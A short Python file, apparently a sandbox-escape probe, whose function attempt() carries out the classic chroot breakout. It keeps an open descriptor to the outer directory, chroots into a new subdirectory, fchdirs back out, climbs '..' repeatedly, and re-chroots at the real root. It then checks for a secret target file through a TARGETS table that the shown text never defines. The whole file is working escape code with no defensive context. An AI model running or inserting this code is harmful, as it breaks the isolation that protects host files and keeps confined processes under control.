"""Changes its root, from where an open folder leads out again."""

import os


def attempt():
    os.mkdir("below")
    outside = os.open(".", os.O_RDONLY)
    os.chroot("below")
    os.fchdir(outside)
    for _ in range(30):
        os.chdir("..")
    os.chroot(".")
    return f"out: {os.path.exists(TARGETS['secret'])}"
